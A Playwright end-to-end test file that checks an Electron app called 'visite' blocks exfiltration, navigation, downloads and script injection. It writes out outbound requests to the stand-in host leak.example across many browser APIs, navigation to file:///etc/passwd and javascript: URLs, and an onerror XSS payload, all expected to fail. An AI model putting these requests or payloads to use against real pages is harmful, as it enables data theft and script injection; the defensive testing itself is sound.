import { expect, test } from '@playwright/test';
import { launch, type Launched } from '#test/e2e/launch.ts';

/** What a hostile page, or a hostile text in ours, would try. One application for all of it. */
let visite: Launched;
test.beforeAll(async () => {
  visite = await launch();
});
test.afterAll(() => visite.close());

async function blockedCount(): Promise<number> {
  const answer = await visite.page.evaluate(() => window.visite.call('blocked-requests', {}));
  return answer.ok ? answer.value.count : Number.NaN;
}

const ways: readonly { readonly way: string; readonly code: string; readonly fails: string }[] = [
  {
    way: 'fetch',
    code: `fetch('https://leak.example/x').then(() => 'out', (error) => 'no ' + error.name)`,
    fails: 'no TypeError',
  },
  {
    way: 'fetch by address',
    code: `fetch('http://192.0.2.1/x').then(() => 'out', (error) => 'no ' + error.name)`,
    fails: 'no TypeError',
  },
  {
    way: 'XMLHttpRequest',
    code: `new Promise((done) => { const r = new XMLHttpRequest(); r.onload = () => done('out'); r.onerror = () => done('no'); try { r.open('GET', 'https://leak.example/x'); r.send(); } catch (error) { done('no'); } })`,
    fails: 'no',
  },
  {
    way: 'image',
    code: `new Promise((done) => { const i = new Image(); i.onload = () => done('out'); i.onerror = () => done('no'); i.src = 'https://leak.example/x.png'; })`,
    fails: 'no',
  },
  {
    way: 'style sheet',
    code: `new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => done('out'); l.onerror = () => done('no'); l.href = 'https://leak.example/x.css'; document.head.append(l); })`,
    fails: 'no',
  },
  { way: 'module', code: `import('https://leak.example/x.js').then(() => 'out', () => 'no')`, fails: 'no' },
  {
    way: 'WebSocket',
    code: `new Promise((done) => { try { const s = new WebSocket('wss://leak.example/'); s.onopen = () => done('out'); s.onerror = () => done('no'); } catch (error) { done('no'); } })`,
    fails: 'no',
  },
  {
    way: 'EventSource',
    code: `new Promise((done) => { try { const s = new EventSource('https://leak.example/'); s.onopen = () => done('out'); s.onerror = () => { s.close(); done('no'); }; } catch (error) { done('no'); } })`,
    fails: 'no',
  },
  {
    way: 'WebTransport',
    code: `new Promise((done) => { try { const t = new WebTransport('https://leak.example/'); t.ready.then(() => done('out'), () => done('no')); } catch (error) { done('no'); } })`,
    fails: 'no',
  },
  {
    way: 'frame',
    code: `new Promise((done) => { const f = document.createElement('iframe'); f.onload = () => { let inside; try { inside = f.contentDocument?.URL ?? 'foreign'; } catch { inside = 'foreign'; } done(inside); }; f.src = 'https://leak.example/'; document.body.append(f); setTimeout(() => done('no'), 3000); })`,
    fails: 'blocked',
  },
  {
    way: 'form',
    code: `new Promise((done) => { const f = document.createElement('form'); f.action = 'https://leak.example/'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => done(location.href), 500); })`,
    fails: 'visite://app/index.html',
  },
  {
    way: 'worker',
    code: `new Promise((done) => { try { const w = new Worker(URL.createObjectURL(new Blob(["fetch('https://leak.example/')"]))); w.onerror = () => done('no'); w.onmessage = () => done('out'); } catch { done('no'); } setTimeout(() => done('no'), 1000); })`,
    fails: 'no',
  },
];

for (const { way, code, fails } of ways)
  test(`D33 ${way}: nothing leaves the page`, async () => {
    const before = await blockedCount();
    const result: unknown = await visite.page.evaluate(code);
    if (fails === 'blocked')
      expect(['no', 'foreign', 'about:blank', 'chrome-error://chromewebdata/']).toContain(result);
    else expect(result).toBe(fails);
    // a worker is refused as a text, before it asks for anything
    if (way !== 'worker') await expect.poll(blockedCount).toBeGreaterThan(before);
  });

test('D33 a beacon and a prefetch are refused and counted', async () => {
  const before = await blockedCount();
  await visite.page.evaluate(() => {
    navigator.sendBeacon('https://leak.example/beacon', 'x');
    for (const rel of [
      'prefetch',
      'preload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'modulepreload',
      'icon',
    ]) {
      const link = document.createElement('link');
      link.rel = rel;
      link.as = 'script';
      link.href = `https://leak.example/${rel}`;
      document.head.append(link);
    }
  });
  await expect.poll(blockedCount).toBeGreaterThanOrEqual(before + 2);
});

test('D33 WebRTC finds no address and reaches nobody', async () => {
  const candidates = await visite.page.evaluate(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }] });
    const found: string[] = [];
    peer.addEventListener('icecandidate', ({ candidate }) => {
      if (candidate !== null && candidate.candidate !== '') found.push(candidate.candidate);
    });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 1500));
    peer.close();
    return found;
  });
  expect(candidates).toEqual([]);
});

test('D33 what was blocked is told by scheme and host, never by more of its address', async () => {
  await visite.page.evaluate(() =>
    fetch('https://leak.example/patient/1234567?name=Jansen').catch(() => undefined),
  );
  const answer = await visite.page.evaluate(() => window.visite.call('blocked-requests', {}));
  const text = JSON.stringify(answer);
  expect(text).toContain('https://leak.example');
  expect(text).not.toContain('1234567');
  expect(text).not.toContain('Jansen');
});

test('D40 navigation stays where it is', async () => {
  const back = visite.page.waitForEvent(
    'framenavigated',
    (frame) => frame.url() === 'visite://app/index.html',
  );
  await visite.page.evaluate(() => {
    location.href = 'about:blank';
  });
  await back;
  await visite.page.waitForLoadState();
  for (const address of [
    'https://leak.example/',
    'file:///etc/passwd',
    'data:text/html,hi',
    'visite://other/index.html',
    'visite://app/other.html',
    'chrome://gpu',
    'javascript:document.title="run"',
  ]) {
    await visite.page.evaluate((to) => {
      location.href = to;
    }, address);
    await visite.page.waitForTimeout(150);
    expect(visite.page.url(), address).toBe('visite://app/index.html');
  }
  expect(await visite.page.title()).not.toBe('run');
});

test('D40 no window is opened: window.open, target=_blank, middle click', async () => {
  const opened = await visite.page.evaluate(() => window.open('https://leak.example/') === null);
  expect(opened).toBe(true);
  expect(await visite.page.evaluate(() => window.open('visite://app/index.html') === null)).toBe(true);
  await visite.page.evaluate(() => {
    const link = document.createElement('a');
    link.id = 'attack';
    link.href = 'https://leak.example/';
    link.target = '_blank';
    link.textContent = 'attack';
    link.style.cssText = 'position:fixed;top:0;left:0;z-index:9999';
    document.body.append(link);
  });
  // by the mouse alone: a click on a locator would wait for the navigation that never comes
  const { x, y } = { x: 10, y: 10 };
  expect(
    await visite.page.evaluate(([left, top]) => document.elementFromPoint(left, top)?.id, [x, y] as const),
  ).toBe('attack');
  await visite.page.mouse.click(x, y);
  await visite.page.mouse.click(x, y, { button: 'middle' });
  await visite.page.keyboard.down('Control');
  await visite.page.mouse.click(x, y);
  await visite.page.keyboard.up('Control');
  await visite.page.waitForTimeout(200);
  await visite.page.evaluate(() => document.getElementById('attack')?.remove());
  expect(await visite.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  expect(visite.page.url()).toBe('visite://app/index.html');
});

test('D40 a file dropped where nobody takes it does not replace the page', async () => {
  // the drop of a file that the page does not take is a navigation of the browser to that file
  const preferences = await visite.app.evaluate(({ webContents }) => {
    // not in the types, but what Electron says itself
    const contents = webContents.getAllWebContents()[0] as unknown as {
      getLastWebPreferences(): { navigateOnDragDrop?: boolean };
    };
    return contents.getLastWebPreferences();
  });
  expect(preferences.navigateOnDragDrop).not.toBe(true);
  await visite.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents()[0]?.executeJavaScript(`location.assign('file:///etc/passwd')`),
  );
  await visite.page.waitForTimeout(200);
  expect(visite.page.url()).toBe('visite://app/index.html');
});

test('D40 nothing is downloaded', async () => {
  const before = await blockedCount();
  await visite.page.evaluate(() => {
    const link = document.createElement('a');
    link.download = 'patients.csv';
    link.href = URL.createObjectURL(new Blob(['patient;1']));
    document.body.append(link);
    link.click();
    link.remove();
  });
  await expect.poll(blockedCount).toBeGreaterThan(before);
});

test('D33 markup never becomes elements, text never becomes script', async () => {
  const tried = await visite.page.evaluate(async () => {
    // what the debugger evaluates may evaluate more; what a timer runs is under the page's policy
    await new Promise((later) => setTimeout(later, 0));
    const results: string[] = [];
    const attempt = (name: string, work: () => void) => {
      try {
        work();
        results.push(`${name} worked`);
      } catch {
        results.push(`${name} refused`);
      }
    };
    const element = document.createElement('div');
    attempt('innerHTML', () => (element.innerHTML = '<img src=x onerror=alert(1)>'));
    attempt('eval', () => globalThis.eval('1 + 1'));
    attempt('Function', () => void new Function('return 1'));
    attempt('policy', () => {
      // not in the types of this language's library
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): object };
      };
      trustedTypes.createPolicy('attack', { createHTML: (text: string) => text });
    });
    attempt('script', () => (document.createElement('script').text = 'window.attacked = true'));
    attempt('document.write', () => document.write('<p>x</p>'));
    return results;
  });
  expect(tried.filter((result) => !result.endsWith('refused'))).toEqual([]);
});
